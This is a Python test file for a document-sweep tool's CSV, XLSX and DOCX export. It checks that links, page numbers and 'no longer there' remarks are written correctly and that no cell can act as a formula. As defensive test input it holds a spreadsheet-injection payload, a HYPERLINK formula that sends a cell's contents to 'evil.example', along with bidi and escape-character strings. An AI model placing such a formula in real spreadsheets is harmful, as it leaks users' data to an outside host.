"""Sweeps as CSV, XLSX and DOCX: what stands in them, where their links lead, and what no cell can do."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest
from docx import Document

from phi3desk.chat.dossier.blocks import Facts, Question, Telling, blocks_of
from phi3desk.errors import say
from phi3desk.sweep.dossier import sweep_dossier
from phi3desk.sweep.export import KINDS, content_of, write_table
from phi3desk.sweep.plan import NO_LONGER_THERE, Cell, Outcome, Row, Sweep, SweepPlan, SweptDocument
from tests.helpers.dossiers import checked_answer

PLAN = SweepPlan(("What is the limit?", "Who signs?"), where="Tenders")
SWEEP = Sweep(1, PLAN, 1.0, 3, 4, 4)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
BIDI = "limit \u202e0002\u202c hours\x1b[31m \x00"


def rows() -> list[Row]:
    pump = SweptDocument("/data/my docs/pump manual.pdf", "pump manual.pdf", "pdf")
    sheet = SweptDocument("/data/=1+1.xlsx", "=1+1.xlsx", "xlsx")
    scan = SweptDocument("/data/scan.pdf", "scan.pdf", searchable=False, problem=say("It is a scan."))
    found = Cell(0, pump.path, Outcome.FOUND, "The limit is 7.1 mm/s.", "Trip at\n7.1 mm/s.", 12, "pdf")
    evil = Cell(0, sheet.path, Outcome.TO_CHECK, FORMULA, BIDI, 2, "xlsx", "@SUM(1), rows 2-9")
    nothing = Cell(1, pump.path, Outcome.NOT_FOUND)
    return [Row(0, pump, found), Row(0, sheet, evil), Row(0, scan), Row(1, pump, nothing), Row(1, sheet)]


def test_csv_has_a_line_for_each_answer_and_no_formula():
    content = content_of("csv", SWEEP, rows())
    assert content.startswith(b"\xef\xbb\xbf")
    lines = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert [line["Support"] for line in lines] == [
        "Found",
        "To check",
        "Could not be read",
        "Not found",
        "Not asked yet",
    ]
    assert lines[0]["Answer"] == "The limit is 7.1 mm/s."
    assert (lines[0]["Page"], lines[0]["Link"]) == ("p. 12", "file:///data/my%20docs/pump%20manual.pdf#page=12")
    assert lines[1]["Link"] == "file:///data/%3D1%2B1.xlsx"
    assert lines[2]["Remark"] == "It is a scan."
    assert lines[3]["Answer"] == "Not found"
    cells = [cell for line in lines for cell in line.values()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    assert not {"\u202e", "\x1b", "\x00"} & set("".join(cells))


def test_xlsx_has_links_a_fixed_head_and_no_formula():
    book = openpyxl.load_workbook(io.BytesIO(content_of("xlsx", SWEEP, rows())))
    sheet = book.active
    assert [cell.value for cell in sheet[1]][:5] == ["Question", "Document", "Answer", "Page", "Quote"]
    assert sheet.freeze_panes == "A2"
    assert sheet["D2"].hyperlink.target == "file:///data/my%20docs/pump%20manual.pdf#page=12"
    assert sheet["B2"].hyperlink.target == "file:///data/my%20docs/pump%20manual.pdf"
    assert sheet["E2"].value == "Trip at\n7.1 mm/s."
    assert sheet["C2"].alignment.wrap_text
    assert sheet["C5"].value == "Not found"
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.quotePrefix for cell in cells)
    assert not [cell.value for cell in cells if cell.value.startswith(("=", "+", "-", "@"))]
    assert "evil.example" in sheet["C3"].value
    links = {cell.hyperlink.target for cell in cells if cell.hyperlink}
    assert all(link.startswith("file:///data/") for link in links)
    # a formula would stand in an element of its own
    with zipfile.ZipFile(io.BytesIO(content_of("xlsx", SWEEP, rows()))) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_docx_has_a_table_for_each_question_with_links():
    content = content_of("docx", SWEEP, rows())
    document = Document(io.BytesIO(content))
    assert [p.text for p in document.paragraphs if p.style.name == "Heading 2"] == list(PLAN.questions)
    assert [len(table.rows) for table in document.tables] == [4, 3]
    first = document.tables[0]
    assert [cell.text for cell in first.rows[0].cells] == ["Document", "Answer", "Page", "Quote", "Support"]
    assert first.rows[1].cells[3].text == "Trip at\n7.1 mm/s."
    assert first.rows[2].cells[1].text == FORMULA
    assert first.rows[3].cells[1].text == "It is a scan."
    links = {each.target_ref for each in document.part.rels.values() if each.is_external}
    assert links == {
        "file:///data/my%20docs/pump%20manual.pdf",
        "file:///data/my%20docs/pump%20manual.pdf#page=12",
        "file:///data/%3D1%2B1.xlsx",
        "file:///data/scan.pdf",
    }
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        written = archive.read("word/document.xml").decode()
    assert "fldSimple" not in written
    assert "instrText" not in written
    assert "\u202e" not in written


@pytest.mark.parametrize("kind", KINDS)
def test_a_thousand_rows_are_written(kind: str, tmp_path: Path):
    documents = [SweptDocument(f"/docs/{n}.pdf", f"{n}.pdf", "pdf") for n in range(1000)]
    many = [
        Row(0, each, Cell(0, each.path, Outcome.FOUND, "An answer. " * 5, "A quote. " * 20, 7, "pdf"))
        for each in documents
    ]
    path = tmp_path / f"table.{kind}"
    write_table(path, kind, SWEEP, many)
    assert path.stat().st_size > 10_000
    assert list(tmp_path.iterdir()) == [path]


def test_an_answer_longer_than_a_cell_is_cut():
    document = SweptDocument("/docs/a.pdf", "a.pdf", "pdf")
    long = [Row(0, document, Cell(0, document.path, Outcome.FOUND, "word " * 20_000))]
    book = openpyxl.load_workbook(io.BytesIO(content_of("xlsx", SWEEP, long)))
    assert len(book.active["C2"].value) <= 32_767


def test_dossier_has_the_answers_with_their_sentences_and_names_who_says_nothing():
    pump, sheet = rows()[0].document, rows()[1].document
    answers = {(0, pump.path): checked_answer(), (0, sheet.path): checked_answer()}
    made = sweep_dossier(SWEEP, rows(), lambda question, path: answers.get((question, path)), 1.0)
    told = [(entry.question, entry.about, bool(entry.sources)) for entry in made.entries]
    assert told == [
        ("What is the limit?", "pump manual.pdf", True),
        ("What is the limit?", "=1+1.xlsx", True),
        ("What is the limit?", "", False),
        ("Who signs?", "", False),
    ]
    silent = [(one.document, str(one.why)) for entry in made.entries for one in entry.silent]
    assert silent == [
        ("scan.pdf", "It is a scan."),
        ("pump manual.pdf", "Not found"),
        ("=1+1.xlsx", "Not asked yet"),
    ]


def test_dossier_tells_what_became_of_a_document_of_which_a_part_could_not_be_read():
    partly = SweptDocument("/docs/a.pdf", "a.pdf", "pdf", problem=say("2 pages could not be read."))
    failed = Cell(1, partly.path, Outcome.FAILED, problem=say("The model stopped."))
    told = [Row(0, partly, Cell(0, partly.path, Outcome.NOT_FOUND)), Row(0, partly), Row(1, partly, failed)]
    made = sweep_dossier(SWEEP, told, lambda question, path: None, 1.0)
    assert [(str(one.why), str(one.remark)) for entry in made.entries for one in entry.silent] == [
        ("Not found", "2 pages could not be read."),
        ("Not asked yet", "2 pages could not be read."),
        ("The model stopped.", "2 pages could not be read."),
    ]


def records() -> list[Row]:
    """Return rows of documents that are gone: two that were answered, and one that was not."""
    made = []
    for number, outcome in enumerate((Outcome.FOUND, Outcome.NOT_FOUND, None)):
        path = f"/docs/{number}.pdf"
        gone = SweptDocument(path, f"{number}.pdf", "pdf", searchable=False, problem=NO_LONGER_THERE, gone=True)
        cell = Cell(0, path, outcome, "7.1 mm/s." if outcome is Outcome.FOUND else "") if outcome else None
        made.append(Row(0, gone, cell))
    return made


def test_every_file_says_beside_an_answer_that_its_document_is_gone():
    told = ["Found · No longer there", "Not found · No longer there", "No longer there"]
    lines = csv.DictReader(io.StringIO(content_of("csv", SWEEP, records()).decode("utf-8-sig"), newline=""))
    assert [(line["Support"], line["Remark"]) for line in lines] == [(each, str(NO_LONGER_THERE)) for each in told]
    sheet = openpyxl.load_workbook(io.BytesIO(content_of("xlsx", SWEEP, records()))).active
    assert [cell.value for cell in sheet["F"]][1:] == told
    (table,) = Document(io.BytesIO(content_of("docx", SWEEP, records()))).tables
    assert [cell.text for cell in table.columns[4].cells][1:] == told


def test_dossier_says_beside_an_answer_that_its_document_is_gone():
    made = sweep_dossier(SWEEP, records(), lambda _, path: checked_answer() if path == "/docs/0.pdf" else None, 1.0)
    told = list(blocks_of(made, Telling()))
    assert [block.about for block in told if isinstance(block, Question)] == [
        "0.pdf · No longer there",
        "Documents without an answer",
    ]
    without = [block for block in told if isinstance(block, Facts)][-1]
    assert without.rows == (("1.pdf", "Not found · No longer there"), ("2.pdf", str(NO_LONGER_THERE)))
